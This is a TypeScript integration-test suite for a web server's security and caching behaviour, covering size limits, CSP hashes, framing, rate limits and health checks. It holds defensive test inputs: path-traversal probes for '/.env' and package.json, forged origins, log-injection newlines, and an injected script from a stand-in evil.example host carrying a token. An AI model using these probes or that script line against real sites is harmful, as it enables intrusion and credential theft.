import { createHash } from "node:crypto";
import { once } from "node:events";
import { readdirSync, readFileSync, rmSync } from "node:fs";
import { Agent, request } from "node:http";
import { connect } from "node:net";
import { join } from "node:path";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { Client } from "pg";
import { afterAll, beforeAll, expect, test } from "vitest";
import { signToken } from "#backend/tokens/sign-token.ts";
import { loadKeys } from "#server/data-dir/load-keys.ts";
import { readAnonKey } from "#tests/helpers/anon-key.ts";
import { openPage } from "#tests/helpers/browser.ts";
import { readyDataDir } from "#tests/helpers/ready-data.ts";
import { type ServerProcess, startServer } from "#tests/helpers/server-process.ts";
import { anonymousClient, type SignedIn, signUpPerson } from "#tests/helpers/signed-in.ts";

let dataDir: string;
let server: ServerProcess;
let database: Client;

const databaseUrl = () => readFileSync(join(dataDir, "database-url"), "utf8").trim();

type Answer = { status: number; headers: Record<string, string>; body: Buffer };

/** Raw bytes: `fetch` would decode the body and normalize the address. */
function get(path: string, headers: Record<string, string> = {}, method = "GET"): Promise<Answer> {
  const { hostname, port } = new URL(server.address);
  return new Promise((resolve, reject) => {
    request({ hostname, port, path, method, headers, agent: false }, (response) => {
      const chunks: Buffer[] = [];
      response.on("data", (chunk) => chunks.push(chunk));
      response.on("end", () =>
        resolve({
          status: response.statusCode ?? 0,
          headers: response.headers as never,
          body: Buffer.concat(chunks),
        }),
      );
    })
      .on("error", reject)
      .end();
  });
}

beforeAll(async () => {
  dataDir = readyDataDir();
  server = await startServer({ env: { DATA_DIR: dataDir, CLIENT_ADDRESS_HEADER: "x-real-ip" } });
  database = new Client({ connectionString: databaseUrl() });
  await database.connect();
});

afterAll(async () => {
  await database?.end();
  await server?.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

test.each(["/nope", "/fruits/nope"])("%s answers 404 and may not be cached", async (path) => {
  const { status, headers, body } = await get(path);
  expect(status).toBe(404);
  expect(headers["cache-control"]).toBe("no-store");
  expect(body.toString()).toContain("<!doctype html>");
});

test("a request that no page handles gets a titled page that says so", async () => {
  const { status, body } = await get(
    "/about",
    { "content-type": "application/x-www-form-urlencoded" },
    "POST",
  );
  expect(status).toBe(405);
  expect(body.toString()).toMatch(/<head>.*<title>Something ran aground<\/title>.*<\/head>/s);
});

test("storage accepts files up to its own limit, and each service refuses oversized bodies in its own words", async () => {
  const key = await signToken(
    { role: "service_role" },
    readFileSync(join(dataDir, "jwt-secret"), "utf8").trim(),
  );
  const send = async (path: string, bytes: number, type = "application/json") => {
    const headers = { apikey: key, authorization: `Bearer ${key}`, "content-type": type };
    const body = Buffer.alloc(bytes, "a");
    const answer = await fetch(server.address + path, { method: "POST", headers, body });
    return { status: answer.status, body: await answer.json() };
  };
  await database.query("insert into storage.buckets (id, name) values ('large', 'large')");
  const text = "text/plain";
  expect(await send("/storage/v1/object/large/a.txt", 11_000_000, text)).toMatchObject({ status: 200 });
  const beyond = await send("/storage/v1/object/large/b.txt", 52_428_801, text);
  expect(beyond.body).toMatchObject({ statusCode: "413", code: "EntityTooLarge" });
  expect(await send("/rest/v1/items", 10_000_001)).toMatchObject({ status: 413, body: { code: "PGRST102" } });
  const account = await send("/auth/v1/signup", 10_000_001);
  expect(account).toMatchObject({ status: 413, body: { error_code: "request_entity_too_large" } });
  const word = await send("/realtime/v1/api/broadcast", 10_000_001);
  expect(word).toEqual({
    status: 413,
    body: { error: "Payload is too large", message: "Payload is too large" },
  });
});

test("an oversized form is refused, and its connection answers the next request", async () => {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const { hostname, port } = new URL(server.address);
  const send = async (method: string, body = "") => {
    const headers = { "content-type": "application/x-www-form-urlencoded", "content-length": body.length };
    const asked = request({ hostname, port, path: "/values", method, headers, agent, timeout: 20_000 });
    asked.on("timeout", () => asked.destroy(new Error("no answer")));
    asked.end(body);
    const [answer] = await once(asked, "response");
    await once(answer.resume(), "end");
    return answer.statusCode;
  };
  expect(await send("POST", "a".repeat(600_000))).toBe(413);
  expect(await send("GET")).toBe(200);
  agent.destroy();
});

test.each([
  "/assets/../../package.json",
  "/assets/..%2f..%2fpackage.json",
  "/../package.json",
  "//package.json",
  "/.env",
  "/assets/",
])("%s serves no file", async (path) => {
  expect((await get(path)).status).toBeGreaterThanOrEqual(300);
});

test("an address that is no path, or that no form sends, is refused and does no harm", async () => {
  expect((await get("http://elsewhere.example/")).status).toBe(400);
  expect((await get(`/calculator?you=${"x".repeat(3_000)}`)).status).toBe(414);
  // Many clients reject headers as long as such an address would be.
  expect((await get(`/values/?q=${"x".repeat(60_000)}`)).status).toBe(414);
  // Would block the event loop for seconds if it reached the router.
  expect((await get(`/${"(".repeat(60_000)}`)).status).toBe(414);
  expect((await get(`/fruits/${"x".repeat(60_000)}`, {}, "POST")).status).toBe(414);
  expect((await get("/%E0%A4%A")).status).toBeLessThan(500);
  expect((await get("/", {}, "DELETE")).status).toBe(405);
  expect((await get("/")).status).toBe(200);
});

test("an invalid method or host is refused, and none of it floods the log", async () => {
  const before = server.output();
  expect((await get("/", {}, "TRACE")).status).toBe(405);
  expect((await get("/values", {}, "PUT")).status).toBe(405);
  expect((await get("/contact", { host: "a b" }, "POST")).status).toBe(400);
  expect(server.output()).toBe(before);
});

test("a flood of odd requests writes a bounded number of lines, each with its time, level and request", async () => {
  const before = server.output().length;
  const form = { host: "a.example", "content-type": "application/x-www-form-urlencoded" };
  const answers: Answer[] = [];
  for (let i = 0; i < 40; i++) {
    answers.push(
      ...(await Promise.all([
        get(`/nowhere-${i}`),
        get(`/fruits/nothing-${i}`),
        get("/contact", { ...form, origin: `https://evil-${i}.example` }, "POST"),
        get("/contact.data", { ...form, origin: "https://evil.example" }, "POST"),
        get("/contact", { ...form, origin: "no origin" }, "POST"),
        get(`/rest/v1/nothing_${i}`),
        get(`/%E0%A4%A${i}`),
        get("/values", {}, "PUT"),
      ])),
    );
  }
  expect(answers.filter(({ status }) => status >= 500)).toEqual([]);
  const ids = answers.map(({ headers }) => headers["x-request-id"]);
  expect(new Set(ids).size).toBe(answers.length);
  const lines = server.output().slice(before).trim().split("\n");
  expect(lines.length).toBeLessThan(30);
  // Those of the tests before may be summed up meanwhile.
  for (const line of lines.filter((each) => !each.includes(" within a minute"))) {
    const [, id] = /^\d{4}-\d\d-\d\dT[\d:.]+Z warn request=(\S+) 404: /.exec(line) ?? [];
    expect(ids, line).toContain(id);
  }
});

test("a form is accepted only from the site's own pages, also behind a proxy that speaks https or renames the host", async () => {
  const post = async (host: string, origin: string) =>
    (await get("/contact", { host, origin, "content-type": "application/x-www-form-urlencoded" }, "POST"))
      .status;
  expect(await post("site.example", "https://elsewhere.example")).toBe(400);
  expect(await post("a b", "https://elsewhere.example")).toBe(400);
  // Accepted, then refused by the form itself, which delivers nothing here.
  expect(await post("site.example", "http://site.example")).toBe(405);
  expect(await post("site.example", "https://site.example")).toBe(405);
  expect(await post("127.0.0.1:3000", "https://values.example")).toBe(405);
});

test("an Upgrade to a protocol other than WebSocket is ignored and answered normally", async () => {
  const offer = {
    connection: "upgrade, http2-settings",
    upgrade: "h2c",
    "http2-settings": "AAMAAABkAAQAAP__",
  };
  expect((await get("/values", offer)).status).toBe(200);
});

test("/values comes in brotli, gzip and plain, the same page with a strong ETag for each", async () => {
  const plain = await get("/values");
  const brotli = await get("/values", { "accept-encoding": "gzip, deflate, br" });
  const gzip = await get("/values", { "accept-encoding": "gzip" });
  expect([brotli, gzip, plain].map(({ headers }) => headers["content-encoding"])).toEqual([
    "br",
    "gzip",
    undefined,
  ]);
  expect(brotliDecompressSync(brotli.body).equals(plain.body)).toBe(true);
  expect(gunzipSync(gzip.body).equals(plain.body)).toBe(true);
  const tags = [brotli, gzip, plain].map(({ headers }) => headers.etag);
  expect(new Set(tags).size).toBe(3);
  for (const tag of tags) expect(tag).toMatch(/^W\/"/);
  for (const { headers, body } of [brotli, gzip, plain]) {
    expect(headers).toMatchObject({ vary: "accept-encoding", "content-length": String(body.length) });
    expect(headers["cache-control"]).toBe("public, max-age=0, must-revalidate");
  }
});

test("a client that has the page gets 304 without a body, and HEAD gets only the headers", async () => {
  const { headers, body } = await get("/values");
  const again = await get("/values", { "if-none-match": headers.etag as string });
  expect([again.status, again.body.length, again.headers.etag]).toEqual([304, 0, headers.etag]);
  expect((await get("/values", { "if-none-match": '"other"' })).status).toBe(200);
  const head = await get("/values", {}, "HEAD");
  expect([head.status, head.body.length, head.headers["content-length"]]).toEqual([
    200,
    0,
    String(body.length),
  ]);
});

test("a changed value is on one of the next pages without a restart or a purge", async () => {
  const values = async () => (await get("/values")).body.toString();
  expect(await values()).not.toContain("98.7B");
  const { rows } = await database.query(
    "select current_value, previous_value from items where slug = 'kitsune'",
  );
  await database.query("update items set current_value = '98.7B' where slug = 'kitsune'");
  await expect.poll(values, { interval: 20 }).toContain("98.7B");
  await database.query(
    "update items set current_value = $1, previous_value = $2 where slug = 'kitsune'",
    Object.values(rows[0]),
  );
  await expect.poll(values, { interval: 20 }).not.toContain("98.7B");
});

test("open pages are told what changed, once for many rows, and nothing else", async () => {
  const { body, headers } = await fetch(`${server.address}/live`);
  expect(headers.get("content-type")).toBe("text/event-stream");
  expect(headers.get("cache-control")).toBe("no-store");
  const reader = body?.pipeThrough(new TextDecoderStream()).getReader();
  const next = async () => (await reader?.read())?.value;
  expect(await next()).toMatch(/^retry: \d+\n\n$/);
  await database.query("update items set beli_price = '1' where slug like 'd%'");
  expect(await next()).toBe("event: catalogue\ndata:\n\n");
  await database.query(
    "insert into auth.users (id, email) values (gen_random_uuid(), 'new-trader@example.com')",
  );
  expect(await next()).toBe("event: community\ndata:\n\n");
  await reader?.cancel();
});

test("a page read before the last change is told of it at once, one read since is not", async () => {
  await database.query("update items set beli_price = '1' where slug like 'd%'");
  const told = async (since: number) => {
    const { body } = await fetch(`${server.address}/live?since=${since}`);
    const reader = body?.pipeThrough(new TextDecoderStream()).getReader();
    const first = (await reader?.read())?.value ?? "";
    await reader?.cancel();
    return first.split("\n\n").slice(1, -1);
  };
  const both = ["event: catalogue\ndata:", "event: community\ndata:"];
  await expect.poll(() => told(0)).toEqual(both);
  expect(await told(Number.NaN)).toEqual(both);
  await expect.poll(() => told(Date.now())).toEqual([]);
  // Read before the clock was set back: the changes since then are unknown.
  expect(await told(Date.now() + 60_000)).toEqual(both);
  const page = await get("/calculator");
  expect(page.body.toString()).toContain("readAt");
});

test("each page has one address", async () => {
  const { status, headers } = await get("/values/?category=limiteds");
  expect([status, headers.location]).toEqual([308, "/values?category=limiteds"]);
  expect((await get("/values/?q=why?&sort=name")).headers.location).toBe("/values?q=why?&sort=name");
  for (const path of ["//elsewhere.example/", "/\\elsewhere.example/"]) {
    expect((await get(path)).headers.location).toBe("/elsewhere.example");
  }
});

test.each(["/", "/values", "/fruits/kitsune", "/calculator", "/contact", "/about", "/nope"])(
  "every inline script of %s is allowed by its hash, and no other is",
  async (path) => {
    const { headers, body } = await get(path);
    const policy = headers["content-security-policy"] ?? "";
    const scripts = [
      ...body.toString().matchAll(/<script(?![^>]*(?:src=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g),
    ];
    const hashes = scripts.map(([, script = ""]) => createHash("sha256").update(script).digest("base64"));
    expect(scripts.length).toBeGreaterThan(0);
    for (const hash of hashes) expect(policy).toContain(`'sha256-${hash}'`);
    expect(policy.match(/'sha256-/g)).toHaveLength(new Set(hashes).size);
    expect(policy).not.toMatch(/unsafe|nonce/);
    expect(body.toString()).not.toMatch(/ nonce=| style=/);
  },
);

test("a WebSocket request with two hosts is answered 400", async () => {
  const { hostname, port } = new URL(server.address);
  const socket = connect(Number(port), hostname);
  socket.write(
    "GET /realtime/v1/websocket HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n",
  );
  expect(String((await once(socket, "data"))[0])).toMatch(/^HTTP\/1\.1 400 .*nosniff/s);
  socket.destroy();
});

test("every response forbids type sniffing; https is promised only where configured", async () => {
  const services = [
    "/rest/v1/items",
    "/auth/v1/settings",
    "/storage/v1/object/public/a/b",
    "/realtime/v1/nope",
  ];
  for (const path of ["/", "/nope", "/favicon.svg", "/healthz", "/values/", "/functions/v1/x", ...services]) {
    const { headers } = await get(path);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["strict-transport-security"], path).toBeUndefined();
  }
});

test("built files are cached forever and compressed as far as possible", async () => {
  const script = readdirSync("build/client/assets").find((name) => /^entry\.client-.*\.js$/.test(name));
  const { status, headers, body } = await get(`/assets/${script}`, { "accept-encoding": "br" });
  expect(status).toBe(200);
  expect(headers).toMatchObject({
    "cache-control": "max-age=31536000, immutable",
    "content-encoding": "br",
    "content-type": "text/javascript",
  });
  expect(headers.etag, "nobody asks for it again").toBeUndefined();
  expect(brotliDecompressSync(body).equals(readFileSync(`build/client/assets/${script}`))).toBe(true);
});

test("a public file has an ETag and is revalidated after an hour", async () => {
  const { headers } = await get("/favicon.svg");
  expect(headers).toMatchObject({
    "cache-control": "max-age=3600, must-revalidate",
    "content-type": "image/svg+xml",
  });
  expect((await get("/favicon.svg", { "if-none-match": headers.etag as string })).status).toBe(304);
  // Requested by browsers and crawlers that were given no other icon.
  expect((await get("/favicon.ico")).headers["content-type"]).toBe("image/x-icon");
});

async function ask(path: string, token?: string) {
  const apikey = await readAnonKey(server.address);
  const headers = { apikey, ...(token && { authorization: `Bearer ${token}` }) };
  const answer = await fetch(`${server.address}${path}`, { headers, redirect: "manual" });
  await answer.arrayBuffer();
  return answer;
}

/** A user, and a file of theirs in a closed and in an open bucket. */
async function signUpWithFiles(): Promise<SignedIn> {
  const ann = await signUpPerson({ address: server.address, databaseUrl: databaseUrl() });
  await database.query(
    `insert into storage.buckets (id, name, public) values ('closed', 'closed', false), ('open', 'open', true);
     create policy "Tests" on storage.objects for all to authenticated using (true) with check (true)`,
  );
  for (const bucket of ["closed", "open"]) {
    const { error } = await ann.client.storage
      .from(bucket)
      .upload("note.txt", "words", { contentType: "text/plain" });
    expect(error).toBe(null);
  }
  return ann;
}

test("no browser caches service responses for one user; public ones may be cached", async () => {
  const cacheOf = async (path: string, token?: string) => {
    const { ok, headers } = await ask(path, token);
    return [ok, headers.get("cache-control")];
  };
  const { access_token: token } = (await signUpWithFiles()).session;
  const anonKey = await readAnonKey(server.address);
  expect(await cacheOf("/rest/v1/trade_history", token)).toEqual([true, "no-store"]);
  expect(await cacheOf("/rest/v1/items?limit=1", token)).toEqual([true, "no-store"]);
  expect(await cacheOf("/rest/v1/items?limit=1")).toEqual([true, null]);
  expect(await cacheOf("/rest/v1/items?limit=1", anonKey)).toEqual([true, null]);
  expect(await cacheOf("/auth/v1/user", token)).toEqual([true, "no-store"]);
  for (const path of ["object", "object/authenticated"])
    expect(await cacheOf(`/storage/v1/${path}/closed/note.txt`, token), path).toEqual([true, "no-store"]);
  expect(await cacheOf("/storage/v1/object/public/open/note.txt", token)).toEqual([true, "max-age=3600"]);
  // With the secret key, or a user's token, where clients may put it, too.
  const { secretKey: apikey, publishableKey } = await loadKeys(dataDir);
  const rows = `${server.address}/rest/v1/items?limit=1`;
  const cache = async (url: string, headers = {}) =>
    (await fetch(url, { headers })).headers.get("cache-control");
  expect(await cache(rows, { apikey })).toBe("no-store");
  expect(await cache(`${rows}&apikey=${token}`)).toBe("no-store");
  expect(await cache(`${server.address}/storage/v1/object/closed/note.txt`, { apikey })).toBe("no-store");
  expect(await cache(rows, { apikey: publishableKey })).toBe(null);
});

test("no response, from whatever handler, may be framed by another site", async () => {
  const html = await (await fetch(`${server.address}/values`)).text();
  const asset = /\/assets\/[\w.-]+\.js/.exec(html)?.[0] ?? "";
  for (const path of [
    "/",
    "/values",
    "/no/such/page",
    "/values/",
    "/robots.txt",
    "/favicon-32.png",
    "/healthz",
    "/operator-report",
    asset,
    "/rest/v1/items?limit=1",
    "/rest/v1/nothing",
    "/auth/v1/health",
    "/auth/v1/authorize?provider=nobody",
    "/storage/v1/object/public/open/note.txt",
    "/storage/v1/object/public/open/nothing.txt",
    "/functions/v1/nothing",
    "/realtime/v1/api/ping",
  ]) {
    const { headers } = await ask(path);
    expect(headers.get("content-security-policy"), path).toMatch(/(^|; ?)frame-ancestors 'none'(;|$)/);
    expect(headers.get("x-content-type-options"), path).toBe("nosniff");
  }
  // A page's own policy is kept in full.
  expect((await ask("/values")).headers.get("content-security-policy")).toContain("script-src");
});

test("a password made of the site's own name is refused", async () => {
  const client = await anonymousClient(server);
  const { error } = await client.auth.signUp({ email: "pia@example.org", password: "BloxFruits2026!" });
  expect([error?.code, error?.message]).toEqual([
    "weak_password",
    "Password must not be a name of this site, please choose a different one.",
  ]);
});

const told = () => server.output().match(/Browsers blocked .*/g) ?? [];
const send = (body: string, method = "POST") =>
  fetch(`${server.address}/policy-reports`, {
    method,
    headers: { "content-type": "application/csp-report" },
    ...(method === "POST" && { body }),
  });
const report = (fields: Record<string, unknown>) => JSON.stringify({ "csp-report": fields });

test("a browser that blocks a script reports it, and the operator reads one line without the visitor's address", async () => {
  const page = await openPage({
    baseUrl: server.address,
    expectedProblems: [/Content Security Policy|evil/],
  });
  await page.goto("/community/MirabelStone?of=friends");
  const answered = page.waitForResponse((response) => response.url().endsWith("/policy-reports"));
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/steal.js?token=abc";
    document.head.append(script);
  });
  expect((await answered).status()).toBe(204);
  await expect
    .poll(told)
    .toEqual([
      "Browsers blocked https://evil.example on /community/:username by the page's content security policy (script-src-elem)",
    ]);
});

test("a repeated report adds no second line, and one caused by a browser extension adds none", async () => {
  const again = {
    "document-uri": `${server.address}/values?q=kitsune`,
    "effective-directive": "img-src",
    "blocked-uri": "https://pictures.example/a/b.png",
  };
  for (let i = 0; i < 20; i++) expect((await send(report(again))).status).toBe(204);
  const extension = { ...again, "source-file": "chrome-extension", "blocked-uri": "https://other.example/" };
  expect((await send(report(extension))).status).toBe(204);
  const last = { ...again, "effective-directive": "style-src-attr", "blocked-uri": "inline" };
  expect((await send(report(last))).status).toBe(204);
  await expect.poll(() => told().at(-1)).toContain("style-src-attr");
  expect(told().filter((line) => line.includes("pictures.example"))).toHaveLength(1);
  expect(server.output()).not.toMatch(/other\.example|a\/b\.png|kitsune/);
});

test("bodies that are no report or too long are refused, and a flood is not read", async () => {
  expect((await send("", "GET")).status).toBe(405);
  for (const broken of ["", "[", "null", "{}", report({ "effective-directive": "<b>" })])
    expect((await send(broken)).status, broken).toBe(400);
  expect((await send("x".repeat(17 * 1024))).status).toBe(413);
  const before = told().length;
  const statuses = await Promise.all(
    Array.from({ length: 200 }, async (_, i) => {
      const forged = { "effective-directive": "img-src", "blocked-uri": `https://${i}.example/\nforged` };
      return (await send(report(forged))).status;
    }),
  );
  expect(statuses).toContain(429);
  expect(statuses.filter((status) => status === 204).length).toBeLessThanOrEqual(120);
  expect(told().length - before).toBeLessThanOrEqual(11);
  expect(server.output()).not.toMatch(/^forged/m);
});

test("a client that asks for more new pages than can be rendered is told to wait, and delays nobody else", async () => {
  await get("/values");
  const hangUp = new AbortController();
  const flood = { headers: { "x-real-ip": "203.0.113.1" }, signal: hangUp.signal };
  let rendered = 0;
  const refused: Response[] = [];
  const asked = Array.from({ length: 400 }, async (_, i) => {
    const answer = await fetch(`${server.address}/values?mode=${i}`, flood);
    if (answer.ok) rendered++;
    else refused.push(answer);
  });
  await expect.poll(() => refused.length, { interval: 5 }).toBeGreaterThan(0);
  const before = rendered;
  expect((await get("/values")).status).toBe(200);
  expect((await get("/values?mode=permanent", { "x-real-ip": "203.0.113.2" })).status).toBe(200);
  expect(rendered - before).toBeLessThan(64);
  const answer = refused[0] as Response;
  expect([answer.status, answer.headers.get("retry-after")]).toEqual([429, "5"]);
  expect(await answer.text()).toContain("Wait a few seconds, then load this page again.");
  hangUp.abort();
  await Promise.allSettled(asked);
});

test("one API read returns at most 5000 rows, however many there are", async () => {
  await database.query(
    "insert into item_value_changes (item_id, mode, new_value) select id, 'regular', n::text from items, generate_series(1, 100) as n",
  );
  const apikey = await readAnonKey(server.address);
  const { status, body } = await get("/rest/v1/item_value_changes?select=id", { apikey });
  expect([status, JSON.parse(body.toString()).length]).toEqual([200, 5_000]);
});

test("/healthz reports that the backend answers and, for a minute, that its disk was full", async () => {
  const health = async () => {
    const { status, body } = await get("/healthz");
    return [status, JSON.parse(body.toString())];
  };
  await expect.poll(health).toEqual([200, { status: "ok" }]);
  // PostgreSQL's own error; reads continue.
  await database.query(
    "create function fill_disk() returns void language plpgsql as $$ begin raise sqlstate '53100'; end $$",
  );
  const apikey = await readAnonKey(server.address);
  await expect.poll(async () => (await get("/rest/v1/rpc/fill_disk", { apikey }, "POST")).status).toBe(503);
  expect(await health()).toEqual([503, { status: "no room on the disk" }]);
  expect((await get("/values")).status).toBe(200);
});
